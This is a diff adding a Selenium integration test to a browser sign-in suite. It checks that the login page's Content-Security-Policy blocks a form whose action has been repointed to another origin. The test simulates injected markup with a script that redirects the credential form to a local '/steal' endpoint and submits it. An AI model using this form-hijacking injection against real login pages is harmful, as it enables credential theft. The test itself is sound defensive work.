@@ -207,6 +207,30 @@ class BrowserSignInIT {
         assertThat(page.findElements(By.id("password"))).hasSize(1);
     }
 
+    @Test
+    void theLoginFormCannotBeMadeToPostAnywhereButOid() throws Exception {
+        try (CallbackServer elsewhere = CallbackServer.start()) {
+            browser.open(scenario.authorizeUri(scenario.authorizationRequest(SignInScenario.Pkce.create())).toString());
+            WebDriver page = browser.driver();
+            JavascriptExecutor script = (JavascriptExecutor) page;
+            String loginPage = page.getCurrentUrl();
+
+            // as injected markup would: the form's action pointed at another origin, then submitted
+            script.executeScript("window.violations = [];"
+                    + "document.addEventListener('securitypolicyviolation', e => window.violations.push(e.effectiveDirective));"
+                    + "const form = document.forms[0]; form.action = arguments[0]; form.submit();", elsewhere.uri("/steal"));
+
+            long deadline = System.nanoTime() + WAIT.toNanos();
+            Object violations = script.executeScript("return window.violations;");
+            while (violations instanceof java.util.List<?> list && list.isEmpty() && System.nanoTime() < deadline) {
+                Thread.sleep(50);
+                violations = script.executeScript("return window.violations;");
+            }
+            assertThat(violations).isEqualTo(java.util.List.of("form-action"));
+            assertThat(page.getCurrentUrl()).isEqualTo(loginPage);
+        }
+    }
+
     private static void signIn(WebDriver page, String username, String password) {
         WebElement user = page.findElement(By.id("username"));
         user.clear();
